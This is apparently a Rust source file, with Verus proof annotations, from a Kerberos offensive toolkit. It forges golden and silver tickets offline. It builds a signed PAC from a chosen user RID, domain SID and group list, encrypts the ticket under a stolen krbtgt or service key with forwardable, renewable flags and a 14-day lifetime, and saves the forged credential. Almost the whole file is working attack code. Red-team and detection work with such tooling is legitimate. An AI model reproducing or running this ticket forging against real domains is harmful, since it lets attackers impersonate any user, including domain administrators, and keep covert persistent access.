//! Offline crafting of golden and silver tickets: a signed PAC inside an
//! EncTicketPart, encrypted under the supplied long-term key (the krbtgt key
//! for gold, a service key for silver), stored via the vault.

use vstd::prelude::*;
use kerberos_asn1::Asn1Object;
use kerberos_asn1::EncTicketPart as AsnEncTicketPart;
use crate::cipher::Cipher;
use crate::cipher::Key;
use crate::cipher::cipher_wf;
use crate::codec::tcv_wf;
use crate::constants::AES128_CTS_HMAC_SHA1_96;
use crate::constants::AES256_CTS_HMAC_SHA1_96;
use crate::constants::KEY_USAGE_AS_REP_TICKET;
use crate::constants::RC4_HMAC;
use crate::cred_format::CredFormat;
use crate::error::Error;
use crate::etypes::EncryptionType;
use crate::krb_types::EncryptedData;
use crate::krb_types::EncryptionKey;
use crate::krb_types::KrbCredInfo;
use crate::krb_types::PrincipalName;
use crate::krb_types::PrincipalNameV;
use crate::krb_types::Ticket;
use crate::krb_types::new_nt_principal;
use crate::krb_types::new_nt_srv_inst;
use crate::krb_user::KrbUser;
use crate::pac::ValidationInfo;
use crate::pac::new_kerb_validation_info;
use crate::pac::new_signed_pac;
use crate::ticket_cred::TicketCred;
use crate::vault::Vault;
use crate::vault::vault_creds;
use crate::vault::vault_wf;

verus! {

#[verifier::external_type_specification]
#[verifier::external_body]
pub struct ExAsnEncTicketPart(AsnEncTicketPart);

/// Ticket flags of a forged ticket: forwardable, renewable, initial,
/// pre-authenticated.
pub const CRAFT_TICKET_FLAGS: u32 = 0x40E00000;

/// Relies on `kerberos_crypto::Key::random`: a fresh random session key of
/// the etype's size (16 bytes for RC4 and AES128, 32 for AES256). The bytes
/// are random, so only their length is promised.
#[verifier::external_body]
fn random_session_key(etype: i32) -> (r: Vec<u8>)
    requires
        etype == RC4_HMAC || etype == AES128_CTS_HMAC_SHA1_96 || etype == AES256_CTS_HMAC_SHA1_96,
    ensures
        r@.len() == if etype == AES256_CTS_HMAC_SHA1_96 {
            32int
        } else {
            16int
        },
{
    kerberos_crypto::Key::random(etype).unwrap().as_bytes().to_vec()
}

/// The DER of an *EncTicketPart* with these fields and the PAC wrapped as
/// its authorization data (AD-WIN2K-PAC inside AD-IF-RELEVANT).
pub uninterp spec fn enc_ticket_part_der(
    flags: u32,
    key_etype: int,
    key: Seq<u8>,
    crealm: Seq<char>,
    cname: PrincipalNameV,
    authtime: i64,
    endtime: i64,
    renew_till: i64,
    pac: Seq<u8>,
) -> Seq<u8>;

/// The `kerberos_asn1` EncTicketPart skeleton with these fields, moved one
/// for one; times and authorization data are filled by the builder.
#[verifier::external_body]
fn etp_new(
    flags: u32,
    key_etype: i32,
    key: &Vec<u8>,
    crealm: &String,
    cname: &PrincipalName,
) -> kerberos_asn1::EncTicketPart {
    let mut part = kerberos_asn1::EncTicketPart::default();
    part.flags = kerberos_asn1::KerberosFlags { flags };
    part.key = kerberos_asn1::EncryptionKey { keytype: key_etype, keyvalue: key.clone() };
    part.crealm = crealm.clone();
    part.cname = crate::codec::pn_to_asn1(cname);
    part
}

/// Relies on `kerberos_asn1::EncTicketPart::build`: deterministic DER of
/// the given fields, with the PAC as an AD-WIN2K-PAC entry inside an
/// AD-IF-RELEVANT authorization-data entry.
#[verifier::external_body]
fn enc_ticket_part_build(
    flags: u32,
    key_etype: i32,
    key: &Vec<u8>,
    crealm: &String,
    cname: &PrincipalName,
    authtime: i64,
    endtime: i64,
    renew_till: i64,
    pac: &Vec<u8>,
) -> (r: Vec<u8>)
    requires
        0 < authtime < 253402300800,
        0 < endtime < 253402300800,
        0 < renew_till < 253402300800,
    ensures
        r@ == enc_ticket_part_der(
            flags,
            key_etype as int,
            key@,
            crealm@,
            cname@,
            authtime,
            endtime,
            renew_till,
            pac@,
        ),
{
    let pac_ad = kerberos_asn1::AuthorizationDataEntry {
        ad_type: kerberos_constants::ad_types::AD_WIN2K_PACK,
        ad_data: pac.clone(),
    };
    let wrap = kerberos_constants::ad_types::AD_IF_RELEVANT;
    let mut part = etp_new(flags, key_etype, key, crealm, cname);
    part.authtime = crate::codec::kt_to_asn1(authtime);
    part.starttime = Some(crate::codec::kt_to_asn1(authtime));
    part.endtime = crate::codec::kt_to_asn1(endtime);
    part.renew_till = Some(crate::codec::kt_to_asn1(renew_till));
    let ad = kerberos_asn1::AuthorizationDataEntry { ad_type: wrap, ad_data: vec![pac_ad].build() };
    part.authorization_data = Some(vec![ad]);
    part.build()
}

/// A forged credential: the LOGON_INFO is assembled from the arguments, the
/// PAC is doubly signed with the long-term key, the EncTicketPart is
/// encrypted under key-usage 2 (ticket), and the cred info carries the
/// fresh session key and the same principals and lifetimes. The result is
/// well-formed for both storage formats.
pub fn craft_ticket_info(
    user: &KrbUser,
    service: Option<&String>,
    ticket_key: &Key,
    user_rid: u32,
    realm_sid: &str,
    groups: &Vec<u32>,
    etype: Option<i32>,
) -> (r: Result<TicketCred, Error>)
    requires
        crate::cipher::key_wf(*ticket_key),
        ticket_key matches Key::Secret(_) ==> match etype {
            Some(e) => e == RC4_HMAC || e == AES128_CTS_HMAC_SHA1_96 || e
                == AES256_CTS_HMAC_SHA1_96,
            None => true,
        },
    ensures
        r is Ok <==> crate::pac::sid_parses(realm_sid@),
        r matches Ok(tc) ==> {
            &&& tcv_wf(tc@)
            &&& tc@.cred_info.key.keytype == crate::cipher::cipher_etype_of(*ticket_key, etype)
            &&& tc@.ticket.enc_part.etype == crate::cipher::cipher_etype_of(*ticket_key, etype)
            &&& tc@.cred_info.flags == Some(CRAFT_TICKET_FLAGS)
            &&& tc@.cred_info.pname == Some(crate::krb_types::nt_principal_v(user.name@))
            &&& (tc@.cred_info.prealm matches Some(p) && p == user.realm@)
            &&& (tc@.cred_info.srealm matches Some(p) && p == user.realm@)
            &&& tc@.ticket.sname == tc@.cred_info.sname->Some_0
        },
        r matches Err(e) ==> e is DataError,
{
    let cipher = Cipher::generate(ticket_key, user, etype, None);
    proof {
        assert(cipher_wf(cipher));
    }
    let info: ValidationInfo = new_kerb_validation_info(
        user.name.as_str(),
        user_rid,
        user.realm.as_str(),
        groups,
        filetime_now(),
    );
    let pac = new_signed_pac(&info, realm_sid, &cipher)?;
    let session_key = random_session_key(cipher.etype());
    let now = crate::forge::now_epoch();
    let base: i64 = if 0 < now && now < 0x100000000 - 1209600 {
        now
    } else {
        1
    };
    let cname = new_nt_principal(user.name.as_str());
    let etp = enc_ticket_part_build(
        CRAFT_TICKET_FLAGS,
        cipher.etype(),
        &session_key,
        &user.realm,
        &cname,
        base,
        base + 1209600,
        base + 1209600,
        &pac,
    );
    let encrypted = cipher.encrypt(KEY_USAGE_AS_REP_TICKET, &etp);
    let sname: PrincipalName = match service {
        Some(s) => new_nt_srv_inst(s.as_str()),
        None => {
            let mut krbtgt: String = String::new();
            krbtgt.append("krbtgt/");
            krbtgt.append(user.realm.as_str());
            new_nt_srv_inst(krbtgt.as_str())
        },
    };
    let ticket = Ticket::new(
        user.realm.clone(),
        sname.clone(),
        EncryptedData { etype: cipher.etype(), kvno: Some(2), cipher: encrypted },
    );
    let cred_info = KrbCredInfo {
        key: EncryptionKey { keytype: cipher.etype(), keyvalue: session_key },
        prealm: Some(user.realm.clone()),
        pname: Some(cname),
        flags: Some(CRAFT_TICKET_FLAGS),
        authtime: Some(base),
        starttime: Some(base),
        endtime: Some(base + 1209600),
        renew_till: Some(base + 1209600),
        srealm: Some(user.realm.clone()),
        sname: Some(sname),
    };
    proof {
        match service {
            Some(s) => {
                crate::text::lemma_split_on_nonempty(s@, seq!['/']);
            },
            None => {
                crate::text::lemma_split_on_nonempty("krbtgt/"@ + user.realm@, seq!['/']);
            },
        }
    }
    Ok(TicketCred::new(ticket, cred_info))
}

/// Relies on `chrono::Utc::now`: the current time as a Windows FILETIME
/// (100-nanosecond intervals since 1601), clamped into the representable
/// window.
#[verifier::external_body]
fn filetime_now() -> (r: u64) {
    let now = chrono::Utc::now().timestamp();
    if now > 0 && now < 253402300800 {
        ((now as u64) + 11644473600) * 10000000
    } else {
        116444736000000000
    }
}

/// Crafts a golden (krbtgt key, no service) or silver (service key) ticket
/// and saves it into the vault under the chosen format.
pub fn craft(
    realm: &str,
    username: &str,
    service: Option<&String>,
    ticket_key: &Key,
    user_rid: u32,
    realm_sid: &str,
    groups: &Vec<u32>,
    ticket_key_enc: Option<EncryptionType>,
    cred_format: CredFormat,
    vault: &mut Vault,
) -> (r: Result<(), Error>)
    requires
        crate::cipher::key_wf(*ticket_key),
        vault_wf(*old(vault)),
    ensures
        vault_wf(*final(vault)),
        r is Ok <==> crate::pac::sid_parses(realm_sid@),
        r is Err ==> *final(vault) == *old(vault),
        *old(vault) is Buf && r is Ok ==> vault_creds(*final(vault)).len() == 1,
{
    let user = KrbUser::new(username.to_owned(), realm.to_owned());
    let etype: Option<i32> = match ticket_key_enc {
        Some(e) => Some(e.as_constant()),
        None => None,
    };
    let ticket_info = craft_ticket_info(
        &user,
        service,
        ticket_key,
        user_rid,
        realm_sid,
        groups,
        etype,
    )?;
    let mut one: Vec<TicketCred> = Vec::new();
    one.push(ticket_info);
    let creds = crate::ticket_cred::TicketCreds::new(one);
    proof {
        assert(crate::codec::creds_wf(creds@)) by {
            assert(creds@.len() == 1);
            assert(tcv_wf(creds@[0]));
        }
        assert forall|i: int| 0 <= i < creds@.len() implies crate::codec::tcv_krb_encodable(
            #[trigger] creds@[i],
        ) by {}
    }
    vault.save_as(creds, cred_format)
}

} // verus!
